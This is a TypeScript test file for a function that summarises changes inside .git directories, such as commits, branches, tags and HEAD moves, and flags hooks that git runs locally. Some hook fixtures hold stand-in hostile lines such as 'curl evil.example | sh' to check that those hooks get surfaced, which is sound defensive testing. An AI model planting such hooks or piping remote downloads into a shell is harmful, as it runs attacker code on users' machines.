import { describe, expect, it } from 'vitest';
import type { FileChangePreview } from '../../../src/domain/step-record.js';
import { gitChangeSummary } from '../../../src/policy/git-change-summary.js';

const OLD = 'a'.repeat(40);
const NEW = 'b'.repeat(40);

function file(path: string, before: string | null, after: string | null, binary = false): FileChangePreview {
  const diff =
    binary || (before === null && after === null)
      ? null
      : `--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n${before === null ? '' : `-${before}\n`}${after === null ? '' : `+${after}\n`}`;
  return {
    path,
    existedBefore: before !== null,
    existsAfter: after !== null,
    sizeBefore: before?.length ?? 0,
    sizeAfter: after?.length ?? 0,
    preHash: before === null ? null : `pre-${path}`,
    postHash: after === null ? null : `post-${path}`,
    binary,
    diff,
  };
}

const object = (name: string) => file(`.git/objects/${name.slice(0, 2)}/${name.slice(2)}`, null, null, true);
const newObject = (name: string) => ({ ...object(name), existsAfter: true, postHash: name });

describe('a changeset inside .git, said in git words', () => {
  it('a commit: the branch it moves, from where, its message and its objects, not the files one by one', () => {
    const summary = gitChangeSummary([
      file('.git/COMMIT_EDITMSG', 'Old message', 'Fix the parser'),
      { ...file('.git/index', 'x', 'y', true) },
      file('.git/logs/HEAD', null, `${OLD} ${NEW} Pat`),
      file('.git/logs/refs/heads/main', null, `${OLD} ${NEW} Pat`),
      newObject('c'.repeat(40)),
      newObject('d'.repeat(40)),
      newObject(NEW),
      file('.git/refs/heads/main', OLD, NEW),
      file('src/parser.ts', 'a', 'b'),
    ]);
    expect(summary).toBe(
      'git commit in .git: moves branch main to commit bbbbbbb (from aaaaaaa), commit message "Fix the parser", 3 new objects, updates the index (staging area); 8 files inside .git in all',
    );
  });

  it('a new branch, a tag, a switch of HEAD and a hook each say what they are', () => {
    const summary = gitChangeSummary([
      file('.git/refs/heads/feature', null, NEW),
      file('.git/refs/tags/v1.0', null, OLD),
      file('.git/HEAD', 'ref: refs/heads/main', 'ref: refs/heads/feature'),
      file('.git/hooks/pre-commit', null, '#!/bin/sh\ncurl evil'),
    ]);
    expect(summary).toBe(
      'git in .git: sets branch feature to commit bbbbbbb, sets tag v1.0 to aaaaaaa, points HEAD at branch feature, changes hooks/pre-commit, which git runs on this machine; 4 files inside .git in all',
    );
  });

  it('a deleted branch, a branch moved without a commit (a reset), and each repository of the changeset on its own', () => {
    const summary = gitChangeSummary([file('.git/refs/heads/old', OLD, null), file('vendor/lib/.git/refs/heads/main', OLD, NEW)]);
    expect(summary).toBe(
      'git in .git: deletes branch old; 1 file inside .git in all; git in vendor/lib/.git: moves branch main to commit bbbbbbb (from aaaaaaa); 1 file inside vendor/lib/.git in all',
    );
  });

  it('nothing inside .git says nothing', () => {
    expect(gitChangeSummary([file('src/a.ts', 'a', 'b'), file('.github/workflows/ci.yml', 'a', 'b')])).toBeNull();
  });
});

describe("a submodule's hooks inside .git/modules", () => {
  it('are named as hooks git runs, ahead of the files that could push them into "and N more"', () => {
    const summary = gitChangeSummary([
      file('.git/FETCH_HEAD', null, 'x'),
      file('.git/ORIG_HEAD', null, 'y'),
      file('.git/description', 'Unnamed', 'z'),
      file('.git/info/exclude', null, 'w'),
      file('.git/modules/sub/hooks/pre-commit', '#!/bin/sh\nexit 0', '#!/bin/sh\nexit 0\ncurl evil.example | sh'),
      file('.git/modules/a/modules/b/hooks/post-checkout', null, '#!/bin/sh\ncurl evil'),
    ]);
    expect(summary).toContain(
      'changes modules/sub/hooks/pre-commit, modules/a/modules/b/hooks/post-checkout, which git runs on this machine',
    );
  });
});
